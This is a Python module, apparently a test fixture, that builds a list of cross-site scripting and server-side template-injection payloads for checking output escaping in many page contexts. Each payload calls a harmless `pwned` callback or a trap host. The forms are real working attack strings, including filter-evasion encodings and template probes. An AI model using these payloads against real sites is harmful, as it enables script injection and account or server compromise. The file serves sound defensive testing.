"""
Texts that run where they are not escaped, each for another place in which a text can stand.

`X` is what runs: it calls `pwned`, which the browser of the tests reports.
"""

from __future__ import annotations

from typing import Final

RUNS: Final = "window.pwned&&pwned({n})"
# a place where nobody listens; asking it is as bad as running
TRAP: Final = "//pwned.invalid"

_FORMS: Final = (
    # elements
    "<script>X</script>",
    "<ScRiPt >X</sCrIpT\t>",
    "<script src=T/a.js></script>",
    "</script><script>X</script>",
    "</title><script>X</script>",
    "</textarea><script>X</script>",
    "</style><script>X</script>",
    "</noscript><img src=x onerror=X>",
    "--><script>X</script>",
    "<!--><img src=x onerror=X>-->",
    "]]><script>X</script>",
    "<scr<script>ipt>X</scr</script>ipt>",
    "<img src=x onerror=X>",
    "<img src=x onerror=X//",
    "<img/src=x/onerror=X>",
    "<IMG SRC=T/i.png>",
    "<svg onload=X>",
    "<svg/onload=X>",
    "<svg><script>X</script></svg>",
    "<svg><animate onbegin=X attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:X><text y=20>a</text></a></svg>",
    "<math><mtext><img src=x onerror=X></mtext></math>",
    "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=X&gt;'>",
    "<body onload=X>",
    "<iframe srcdoc='<script>parent.X</script>'></iframe>",
    "<iframe src=javascript:parent.X></iframe>",
    "<iframe src=T/f></iframe>",
    "<object data=javascript:X></object>",
    "<embed src=T/e>",
    "<video><source onerror=X></video>",
    "<audio src=x onerror=X>",
    "<details open ontoggle=X>",
    "<input autofocus onfocus=X>",
    "<select autofocus onfocus=X><option>a</select>",
    "<marquee onstart=X>a</marquee>",
    "<form action=javascript:X><button autofocus>a</button></form>",
    "<a href=javascript:X>a</a>",
    "<a href='java&#9;script:X'>a</a>",
    "<a href='&#x6a;avascript:X'>a</a>",
    "<a href='data:text/html,<script>X</script>'>a</a>",
    "<base href=T/>",
    "<link rel=stylesheet href=T/c.css>",
    "<meta http-equiv=refresh content='0;url=T/m'>",
    "<style>@import 'http:T/s.css';</style>",
    "<p style=\"background:url(http:T/b.png)\">a",
    "<template><img src=x onerror=X></template><img src=x onerror=X>",
    "<custom-element contenteditable onfocus=X autofocus tabindex=1>a",
    # out of an attribute
    "\"><script>X</script>",
    "'><img src=x onerror=X>",
    "\" onmouseover=\"X\" autofocus onfocus=\"X\" x=\"",
    "' onmouseover='X' autofocus onfocus='X' x='",
    "` onmouseover=X autofocus onfocus=X ",
    # out of a text of a script, or of JSON within a page
    "\";X;//",
    "';X;//",
    "`;X;//",
    "\\\";X;//",
    "\\';X;//",
    "${X}",
    "`${X}`",
    "\u2028X\u2029",
    "</script\u00a0><svg onload=X>",
    "<!--<script>",
    # computed on the server
    "{{7*7}}{% print(X) %}",
    "{{cycler.__init__.__globals__}}",
    "#{7*7} <%= 7*7 %> ${7*7}",
    # what an escape can leave over
    "&lt;img src=x onerror=X&gt;",
    "&#60;script&#62;X&#60;/script&#62;",
    "\uff1cscript\uff1eX\uff1c/script\uff1e",
    "+ADw-script+AD4-X+ADw-/script+AD4-",
    "\u202e<img src=x onerror=X>",
    "<img src=x onerror=X\x7f>",
    # addresses
    "javascript:X",
    "data:text/html,<script>X</script>",
    "T/plain",
)  # fmt: skip

PAYLOADS: Final = tuple(
    form.replace("X", RUNS.format(n=n)).replace("T/", f"{TRAP}/{n}/")
    for n, form in enumerate(_FORMS)
)
